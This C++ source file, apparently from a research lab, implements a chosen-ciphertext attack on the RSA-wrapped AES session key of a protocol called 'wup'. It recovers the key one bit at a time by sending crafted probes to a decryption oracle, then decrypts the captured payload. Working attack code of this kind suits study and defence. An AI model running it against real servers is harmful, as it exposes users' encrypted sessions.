#include "wuplab/attacks/cca2.hpp"

#include "wuplab/aes128.hpp"
#include "wuplab/numtheory.hpp"

namespace wuplab::attacks {

using numtheory::BigUint;
using numtheory::from_bytes_be;
using numtheory::to_bytes_be_padded;

namespace {

constexpr int kTransportRetries = 3;

std::optional<Bytes> query_with_retry(const oracle::OracleFn& query,
                                      const wup::EncryptedSession& probe) {
  for (int attempt = 0;; ++attempt) {
    try {
      return query(probe);
    } catch (const oracle::TransportError&) {
      if (attempt + 1 >= kTransportRetries) throw;
      // retry the same probe; clean silence is never retried
    }
  }
}

}  // namespace

Cca2Result cca2_attack(const wup::EncryptedSession& target, const oracle::OracleFn& query,
                       const rsa::RsaPublicKey& pub, unsigned key_bits) {
  if (key_bits == 0 || key_bits > 128) throw std::invalid_argument("cca2: key_bits must be 1..128");
  auto start = std::chrono::steady_clock::now();

  const BigUint c = from_bytes_be(view(target.rsa_blob));
  const BigUint key_mask = (BigUint(1) << key_bits) - 1;

  wup::WupMessage probe_msg;
  probe_msg.kind = wup::MsgKind::request;
  probe_msg.add_field("probe", std::string_view("cca2"));
  const Bytes probe_plain = wup::serialize(probe_msg);

  Cca2Result result;
  result.per_bit_outcomes.reserve(key_bits);

  BigUint known = 0;  // low bits of k recovered so far
  for (unsigned b = key_bits; b-- > 0;) {
    // guess 0 for bit (key_bits-1-b) of k: candidate = (known << b) mod 2^key_bits
    BigUint candidate = (known << b) & key_mask;
    Bytes candidate_key = to_bytes_be_padded(candidate, 16);

    wup::EncryptedSession probe;
    probe.rsa_blob = to_bytes_be_padded(rsa::shift_ciphertext(pub, c, b), pub.modulus_bytes());
    probe.payload = aes::ecb_encrypt(view(candidate_key), view(probe_plain));

    bool accepted = query_with_retry(query, probe).has_value();
    ++result.queries;
    result.per_bit_outcomes.push_back(accepted);
    if (!accepted) mpz_setbit(known.get_mpz_t(), key_bits - 1 - b);
  }

  Bytes key_bytes = to_bytes_be_padded(known, 16);
  result.recovered_key = victim_prng::session_key_from_bytes(view(key_bytes));
  try {
    Bytes plain = aes::ecb_decrypt(view(key_bytes), view(target.payload));
    wup::parse(view(plain));
    result.recovered_valid = true;
  } catch (const std::exception&) {
    result.recovered_valid = false;
  }
  result.wall_time = std::chrono::steady_clock::now() - start;
  return result;
}

}  // namespace wuplab::attacks
